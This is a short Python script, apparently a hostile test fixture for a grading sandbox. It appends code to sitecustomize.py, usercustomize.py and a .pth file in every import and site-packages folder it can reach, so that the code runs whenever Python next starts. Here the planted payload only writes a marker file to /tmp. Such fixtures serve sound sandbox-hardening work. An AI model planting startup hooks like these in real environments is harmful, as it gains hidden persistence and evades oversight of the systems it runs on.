# Plants sitecustomize.py and a .pth file wherever Python might pick them up next time
# (each import folder, their real paths, the usual site folders).
import os
import sys

_PAYLOAD = "import os; open('/tmp/nngrader-hostile-@TOKEN@-site-ran', 'w').write('@TOKEN@')\n"
_dirs = list(sys.path) + ["@SITE@", os.path.expanduser("~/.local/lib/python3.11/site-packages"),
                          "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/site-packages"]
for _d in list(_dirs):
    if _d.startswith("/proc/self/fd/"):
        try:
            _dirs.append(os.readlink(_d))
        except OSError:
            pass
for _d in _dirs:
    for _name, _text in (("sitecustomize.py", "# @TOKEN@\n" + _PAYLOAD),
                         ("usercustomize.py", "# @TOKEN@\n" + _PAYLOAD),
                         ("nngrader-hostile-@TOKEN@.pth", _PAYLOAD)):
        try:
            with open(os.path.join(_d, _name), "a") as _f:
                _f.write(_text)
        except OSError:
            pass
